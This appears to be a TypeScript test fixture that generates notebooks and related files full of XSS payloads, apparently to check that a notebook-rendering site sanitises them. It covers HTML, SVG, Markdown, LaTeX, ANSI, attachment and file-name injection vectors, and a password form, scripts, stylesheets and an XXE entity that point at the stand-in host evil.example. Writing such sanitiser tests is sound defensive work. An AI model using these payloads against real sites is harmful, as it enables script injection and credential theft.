import { ASKING_DRAWINGS } from './asking-drawings.ts';
import { EXECUTION_HOOK } from './browser.ts';

/** A notebook in a course's folder: a name, and what the file holds. */
export interface HostileFile {
  readonly path: string;
  readonly text: string;
  /** Title, description and tags that the manifest gives it. */
  readonly entry?: { readonly title?: string; readonly description?: string; readonly tags?: string[] };
}

/** Words around each payload that the page must still show. */
export const BEFORE = 'Sentinel before the payload';
export const AFTER = 'Sentinel after the payload';

/** An address that no page may ask for. */
const EVIL = 'https://evil.example/x';

const RUN = `window.${EXECUTION_HOOK}(1)`;

export const HOSTILE_HTML: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${EVIL}.js"></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${EVIL}.png" srcset="${EVIL}.png 2x">`,
  `<svg onload="${RUN}"><circle r="1"/></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${RUN}'/></svg>#a"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">press</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math href="javascript:${RUN}"><mi>x</mi></math>`,
  `<math><maction actiontype="statusline#${EVIL}" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="${EVIL}"></iframe>`,
  `<object data="${EVIL}.swf"></object><embed src="${EVIL}.swf">`,
  `<object data="data:text/html,<script>parent.${RUN}</script>"></object>`,
  `<video autoplay src="${EVIL}.mp4" poster="${EVIL}.png" onerror="${RUN}"></video>`,
  `<audio autoplay src="${EVIL}.mp3" onerror="${RUN}"></audio>`,
  `<video><source src="x" onerror="${RUN}"></video>`,
  `<a href="javascript:${RUN}">press</a>`,
  `<a href="java\nscript:${RUN}">press</a>`,
  `<a href="&#1;java&Tab;script:${RUN}">press</a>`,
  `<a href="JaVaScRiPt&colon;${RUN}">press</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">press</a>`,
  `<a href="x" ping="${EVIL}" onclick="${RUN}">press</a>`,
  `<form action="javascript:${RUN}"><input type=submit><button formaction="javascript:${RUN}">go</button></form>`,
  `<form action="${EVIL}"><input name=password type=password autofocus onfocus="${RUN}"><button>go</button></form>`,
  `<input type=image src="${EVIL}.png" onerror="${RUN}">`,
  `<select autofocus onfocus="${RUN}"><option>x</select>`,
  `<textarea autofocus onfocus="${RUN}">x</textarea>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<body onload="${RUN}" onpageshow="${RUN}">`,
  `<base href="${EVIL}/">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  `<link rel="stylesheet" href="${EVIL}.css"><link rel="preload" as="image" href="${EVIL}.png">`,
  `<style>@import "${EVIL}.css"; body { display: none; background: url(${EVIL}.png) }</style>`,
  `<div style="position:fixed;inset:0;background:url(${EVIL}.png);z-index:99">over</div>`,
  `<p style="animation-name:x" onanimationstart="${RUN}">x</p>`,
  `<table background="${EVIL}.png"><tr><td background="${EVIL}.png">x</td></tr></table>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template shadowrootmode="open"><script>${RUN}</script></template>`,
  `<xmp><script>${RUN}</script></xmp><noembed><img src=x onerror=${RUN}></noembed>`,
  `<plaintext><script>${RUN}</script>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!-- never closed <script>${RUN}</script>`,
  `<![CDATA[<script>${RUN}</script>]]><?php echo 1 ?><script>${RUN}</script>`,
  `</div></section></article></main></body></html><script>${RUN}</script>`,
  `<textarea></section><script>${RUN}</script>`,
  `<title></title><script>${RUN}</script>`,
  `<a name="documentElement" id="location">x</a><form id="content" name="body"></form>`,
  `<div data-search data-base="${EVIL}/" data-open-search>Search</div>`,
  `<a class="button" data-launch="now" href="${EVIL}">Launch</a>`,
  `<div data-pagefind-body data-pagefind-meta="title">Taken</div>`,
  `<marquee onstart="${RUN}">x</marquee><custom-thing onclick="${RUN}">x</custom-thing>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  `<img usemap="#m" src="x"><map name="m"><area shape="default" href="javascript:${RUN}"></map>`,
  `<button popovertarget="p" onclick="${RUN}">x</button><div popover id="p" onbeforetoggle="${RUN}">x</div>`,
];

const MARKDOWN: readonly string[] = [
  `[press](javascript:${RUN})`,
  `[press](<java&#115;cript:${RUN}>)`,
  `[press][1]\n\n[1]: javascript:${RUN} "t"`,
  `<javascript:${RUN}>`,
  `![x](javascript:${RUN})`,
  `![x](${EVIL}.png)`,
  `![x][1]\n\n[1]: //evil.example/x.png "x" onerror=${RUN}`,
  `![x" onerror="${RUN}](x.png "y' onerror='${RUN}")`,
  `\`\`\`html" onclick="${RUN}\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`{raw} html\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`{admonition} <img src=x onerror=${RUN}>\n:class: "x onclick=${RUN}"\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`{iframe} ${EVIL}\n\`\`\`\n\n\`\`\`{image} ${EVIL}.png\n\`\`\``,
  `:::{note} <script>${RUN}</script>\n<img src=x onerror=${RUN}>\n:::`,
  `| a | b |\n|:--|--:|\n| <img src=x onerror=${RUN}> | [x](javascript:${RUN}) |`,
  `<details>\n\n[x](javascript:${RUN})\n\n<script>\n\n${RUN}\n\n</script>`,
  `# <img src=x onerror=${RUN}> {#x onclick=${RUN}}`,
  `x[^1]\n\n[^1]: <svg/onload=${RUN}>`,
  `<https://evil.example/" onmouseover="${RUN}>`,
  `\`\`\`{figure} javascript:${RUN}\n:alt: "><script>${RUN}</script>\n:target: javascript:${RUN}\ncaption\n\`\`\``,
  `\`\`\`{note} <img src=x onerror=${RUN}>\n:class: warning" onclick="${RUN}\ntext\n\`\`\``,
  `{abbr}\`x (" onmouseover="${RUN})\` {ref}\`<script>${RUN}</script>\` {cite}\`<svg onload=${RUN}>\` {raw}\`<script>${RUN}</script>\``,
  `("onclick="${RUN})=\n\n(content)=\n\n# An anchor`,
  `::: {.callout-note title="<img src=x onerror=${RUN}>" onclick="${RUN}"}\n<script>${RUN}</script>\n:::`,
  `\uFDD00\uFDD1 <a href="\uFDD00\uFDD1"> $\\text{\uFDD00\uFDD1}$ {ref}\`javascript:${RUN}\``,
  `---\ntitle: "<script>${RUN}</script>"\n__proto__: {html: "<script>${RUN}</script>"}\n---\n\n<script>${RUN}</script>`,
];

const LATEX: readonly string[] = [
  `$\\href{javascript:${RUN}}{x}$`,
  `$\\url{javascript:${RUN}}$`,
  `$\\includegraphics{${EVIL}.png}$`,
  `$\\htmlStyle{background:url(${EVIL}.png)}{x}$ $\\htmlData{onclick=${RUN}}{x}$ $\\htmlId{content}{x}$`,
  `$\\text{<img src=x onerror=${RUN}>}$`,
  `$$\\unknown{</annotation></math><script>${RUN}</script>}$$`,
  `$$\\def\\x{\\x\\x}\\x$$ $\\gdef\\frac#1#2{\\href{javascript:${RUN}}{#1}}\\frac12$`,
  `\\begin{align}<script>${RUN}</script> &= 1\\end{align}`,
  `$\\style{background:url(${EVIL}.png)}{x} \\class{" onclick=${RUN}}{y} \\cssId{z" onload=${RUN}}{z}$`,
];

const svg = (inner: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" ${attributes}>${inner}<rect width="9" height="9"/></svg>`;

const SVG: readonly string[] = [
  svg(`<script>${RUN}</script>`),
  svg(`<script href="${EVIL}.js"/>`),
  svg('', `onload="${RUN}"`),
  svg(`<image href="${EVIL}.png"/><image xlink:href="${EVIL}.png"/>`),
  svg(`<use href="${EVIL}.svg#a"/>`),
  svg(
    `<style>@import "${EVIL}.css"; rect { fill: url(${EVIL}.svg#a); background: url(${EVIL}.png) }</style>`,
  ),
  svg(
    `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="${RUN}"><iframe src="${EVIL}"/></body></foreignObject>`,
  ),
  svg(`<a href="javascript:${RUN}"><circle r="9"/></a>`),
  svg(
    `<set attributeName="onmouseover" to="${RUN}"/><animate attributeName="href" values="javascript:${RUN}" onbegin="${RUN}" dur="1s"/>`,
  ),
  svg(
    `<feImage href="${EVIL}.png"/><rect filter="url(${EVIL}.svg#f)" style="fill:url(${EVIL}.svg#a)" width="9" height="9"/>`,
  ),
  `<?xml version="1.0"?><?xml-stylesheet href="${EVIL}.css" type="text/css"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${EVIL}">]>${svg('<text>&x;</text>')}`,
  `<!DOCTYPE svg [<!ENTITY s "&#60;script&#62;${RUN}&#60;/script&#62;">]>${svg('&s;')}`,
  svg(`<handler type="application/ecmascript" xmlns="http://www.w3.org/2001/xml-events">${RUN}</handler>`),
  ...ASKING_DRAWINGS.map(([, inner]) => svg(inner)),
];

const ESC = '\u001b';
const ANSI: readonly string[] = [
  `${ESC}]8;;javascript:${RUN}${ESC}\\press${ESC}]8;;${ESC}\\`,
  `${ESC}[31m<img src=x onerror=${RUN}>${ESC}[0m`,
  `${ESC}[38;2;1;2;3"onclick="${RUN}m text ${ESC}[999999999999m${ESC}[`,
  `${ESC}]0;<script>${RUN}</script>\u0007title`,
  `<script>${RUN}</script>\b\b\b\r${ESC}[2J${ESC}[1;1Hover`,
  // Tags that come about only when the controls have been applied.
  `<scr${ESC}[0mipt>${RUN}</scr${ESC}[0mipt><im${ESC}[31mg src=x onerror=${RUN}>`,
  `>${RUN}</script>\r<script`,
  `<x\bimg src=x onerrorx\b=${RUN}>`,
  `\u009b31m<img src=x onerror=${RUN}>\u009d8;;javascript:${RUN}\u009cpress`,
  `${ESC}]1337;File=inline=1:PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\u0007${ESC}Pq"1;1;1;1<svg onload=${RUN}>${ESC}\\`,
  `${ESC}]8;;${EVIL}\u0007<a href=javascript:${RUN}>press</a>${ESC}]8;;\u0007`,
];

/** File name in the attachments → bundle. */
const ATTACHMENTS: readonly (readonly [string, Readonly<Record<string, unknown>>])[] = [
  ['a.png', { 'text/html': `<script>${RUN}</script>` }],
  ['a.png', { 'image/png': Buffer.from(`<script>${RUN}</script>`).toString('base64') }],
  ['a.png', { [`image/png" onerror="${RUN}`]: 'iVBORw0KGgo=' }],
  [
    'a.svg',
    { 'image/svg+xml': Buffer.from(`<svg onload="${RUN}"><script>${RUN}</script></svg>`).toString('base64') },
  ],
  ['__proto__', { 'image/png': EVIL }],
  ['../../a.png', { 'image/png': `data:image/svg+xml,<svg onload="${RUN}"/>` }],
  [`a" onerror="${RUN}`, { 'image/gif': 'R0lGODlhAQABAAAAACwAAAAAAQABAAA=' }],
];

/** MIME bundles that no sanitised HTML comes from. */
const BUNDLES: readonly Readonly<Record<string, unknown>>[] = [
  { 'application/javascript': RUN },
  { 'application/vnd.jupyter.widget-view+json': { model_id: `"><script>${RUN}</script>` } },
  { 'application/vnd.plotly.v1+json': { data: [], layout: { title: `<img src=x onerror=${RUN}>` } } },
  { 'application/vnd.vega.v5+json': { data: [{ url: `${EVIL}.json` }] } },
  { 'image/png': `"><script>${RUN}</script>` },
  { 'image/png': `${EVIL}.png` },
  { 'image/gif" onerror="x': 'R0lGODlhAQABAAAAACwAAAAAAQABAAA=' },
  { [`text/html" onload="${RUN}`]: `<script>${RUN}</script>`, 'text/plain': 'plain' },
  { 'text/markdown': `[x](javascript:${RUN}) <img src=x onerror=${RUN}>` },
  { 'text/latex': `$\\href{javascript:${RUN}}{x}$ <script>${RUN}</script>` },
  { 'application/pdf': 'JVBERi0=', 'text/plain': `<script>${RUN}</script>` },
];

/** Names of files; `/` and NUL are the only bytes that a name cannot have. */
const NAMES: readonly string[] = [
  `"><img src=x onerror=${RUN}>`,
  `'onmouseover='${RUN}'`,
  `<script>${RUN}<`,
  `javascript:${RUN}`,
  '{{7*7}}<%= 7*7 %>',
  '%22%3E%3Cscript%3E',
];

const markdownCell = (source: string, extra: object = {}) => ({
  cell_type: 'markdown',
  metadata: {},
  source,
  ...extra,
});
const codeCell = (source: string, outputs: readonly unknown[] = [], metadata: object = {}) => ({
  cell_type: 'code',
  metadata,
  source,
  outputs,
  execution_count: 1,
});
const display = (data: object, metadata: object = {}) => ({ output_type: 'display_data', data, metadata });

function notebook(title: string, cells: readonly object[], metadata: object = {}): string {
  return JSON.stringify({
    nbformat: 4,
    nbformat_minor: 4,
    metadata,
    cells: [markdownCell(`# ${title}\n\n${BEFORE}`), ...cells, markdownCell(AFTER)],
  });
}

/** A notebook of nbformat 3, whose cells and outputs have names of their own. */
function oldNotebook(payload: string): string {
  const output = { output_type: 'pyout', prompt_number: 1, metadata: {} };
  const cells = [
    { cell_type: 'heading', level: 1, source: BEFORE },
    { cell_type: 'heading', level: 2, source: payload },
    { cell_type: 'html', source: payload },
    {
      cell_type: 'code',
      language: payload,
      input: payload,
      outputs: [
        { ...output, html: payload },
        { ...output, svg: payload, text: payload },
        { ...output, javascript: RUN, latex: payload },
        { output_type: 'pyerr', ename: payload, evalue: payload, traceback: [payload] },
        { output_type: 'stream', stream: payload, text: payload },
      ],
    },
    { cell_type: 'markdown', source: AFTER },
  ];
  return JSON.stringify({ nbformat: 3, metadata: { name: payload }, worksheets: [{ cells }] });
}

/** The formats that are text, with the payload in their prose, code, options and front matter. */
function textNotebooks(payload: string): HostileFile[] {
  const line = payload.replaceAll('\n', ' ');
  const quoted = JSON.stringify(line);
  const header = `---\ntitle: ${quoted}\ndescription: ${quoted}\nkernelspec: {name: ${quoted}, display_name: ${quoted}, language: ${quoted}}\n---\n`;
  const prose = `\n${BEFORE}\n\n${payload}\n\n`;
  return [
    {
      path: 'text/myst.md',
      text: `${header}${prose}\`\`\`{code-cell} ${line}\n:tags: [${quoted}]\n${line}\n\`\`\`\n\n+++\n\n${AFTER}\n`,
    },
    {
      path: 'text/percent.py',
      text: `# %% [markdown] ${line}\n# ${BEFORE}\n# ${line}\n\n# %% tags=[${quoted}]\n${line}\n\n# %% [markdown]\n# ${AFTER}\n`,
    },
    {
      path: 'text/report.Rmd',
      text: `${header}${prose}\`\`\`{r, ${line.replaceAll('}', '')}}\n${line}\n\`\`\`\n\n${AFTER}\n`,
    },
    {
      path: 'text/document.qmd',
      text: `${header}${prose}\`\`\`{python}\n#| label: ${quoted}\n#| fig-cap: ${quoted}\n${line}\n\`\`\`\n\n${AFTER}\n`,
    },
  ];
}

/** Every payload in a notebook of its own, so that none can hide what another does; HTML in a Markdown cell and in an output. */
export function listHostileNotebooks(): HostileFile[] {
  const files: HostileFile[] = [];
  const add = (kind: string, cells: readonly object[], metadata: object = {}, title?: string) => {
    const number = String(files.length + 1).padStart(3, '0');
    files.push({
      path: `${kind}/${number}.ipynb`,
      text: notebook(title ?? `Payload ${number}`, cells, metadata),
    });
  };
  for (const html of HOSTILE_HTML)
    add('html', [markdownCell(html), codeCell('show()', [display({ 'text/html': html })])]);
  for (const text of MARKDOWN) add('markdown', [markdownCell(text)]);
  for (const text of LATEX)
    add('latex', [markdownCell(text), codeCell('x', [display({ 'text/latex': text })])]);
  for (const image of SVG)
    add('svg', [
      codeCell('draw()', [display({ 'image/svg+xml': image })]),
      markdownCell('![a picture](attachment:a.svg)', {
        attachments: { 'a.svg': { 'image/svg+xml': [image] } },
      }),
    ]);
  for (const text of ANSI)
    add('ansi', [
      codeCell('print()', [
        { output_type: 'stream', name: 'stderr', text },
        { output_type: 'error', ename: text, evalue: text, traceback: [text] },
      ]),
    ]);
  for (const [name, bundle] of ATTACHMENTS)
    add('attachment', [
      markdownCell(`![a picture](attachment:${encodeURI(name)}) [press](attachment:${encodeURI(name)})`, {
        attachments: { [name]: bundle },
      }),
    ]);
  for (const bundle of BUNDLES) add('bundle', [codeCell('show()', [display(bundle)])]);
  for (const text of HOSTILE_HTML.slice(0, 6)) {
    add('metadata', [
      codeCell(`%%html\n${text}`, [], { tags: [text, `" onclick="${RUN}`], name: text }),
      codeCell(`%%javascript\n${RUN}`),
      { cell_type: 'raw', metadata: { format: 'text/html', raw_mimetype: 'text/html' }, source: text },
      markdownCell('![x](attachment:"onerror=x.png)', {
        attachments: { '"onerror=x.png': { [text]: text } },
      }),
    ]);
    add('kernel', [codeCell(text)], {
      title: text,
      kernelspec: { name: text, display_name: text, language: text },
      language_info: { name: text, file_extension: text, pygments_lexer: `" onclick="${RUN}`, version: text },
    });
    add('title', [], {}, text);
  }
  for (const html of [HOSTILE_HTML[0], HOSTILE_HTML[3], HOSTILE_HTML[6]])
    files.push({ path: `old/${files.length}.ipynb`, text: oldNotebook(html ?? '') });
  files.push(...textNotebooks(HOSTILE_HTML[3] ?? ''));
  add('metadata', [codeCell('x')], {
    title: HOSTILE_HTML[3],
    description: HOSTILE_HTML[5],
    widgets: {
      'application/vnd.jupyter.widget-state+json': { state: { a: { state: { value: HOSTILE_HTML[3] } } } },
    },
    authors: [{ name: HOSTILE_HTML[3] }],
  });
  for (const [index, name] of NAMES.entries())
    files.push({
      path: `names/${name}.ipynb`,
      text: notebook(`Name ${index + 1}`, [markdownCell('Nothing else.')]),
      entry: {
        title: `Titled ${HOSTILE_HTML[index]}`,
        description: HOSTILE_HTML[index + 3] ?? '',
        tags: [HOSTILE_HTML[index] ?? 'x', name],
      },
    });
  return files;
}

/** File beside the notebooks → what it holds: pictures of a repository that are none, or do more than show themselves. */
export function listHostilePictures(): ReadonlyMap<string, string> {
  const drawings = SVG.map((text, index): [string, string] => [`pictures/${index}.svg`, text]);
  return new Map([
    ...drawings,
    ['pictures/page.png', `<!doctype html><script>${RUN}</script>`],
    ['pictures/drawing.png', SVG[0] ?? ''],
    ['pictures/document.gif', '%PDF-1.7'],
    ['pictures/page.svg', `<html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></html>`],
    ['pictures/script.js', RUN],
    ['pictures/page.html', `<script>${RUN}</script>`],
  ]);
}

/** A notebook that shows every one of these pictures, and links to it. */
export function writePictureNotebook(): HostileFile {
  const cells = [...listHostilePictures().keys()].map((path) =>
    markdownCell(`[![x](../${path})](../${path})`),
  );
  return { path: 'shown/pictures.ipynb', text: notebook('Pictures', cells) };
}

/** What does nothing but count itself, for a test that the counting works. */
export const CONTROL = `<img src="x" onerror="${RUN}">`;

/** The same, as a drawing that is opened by itself. */
export const CONTROL_DRAWING = `<svg xmlns="http://www.w3.org/2000/svg"><script>window.${EXECUTION_HOOK}('control')</script></svg>`;
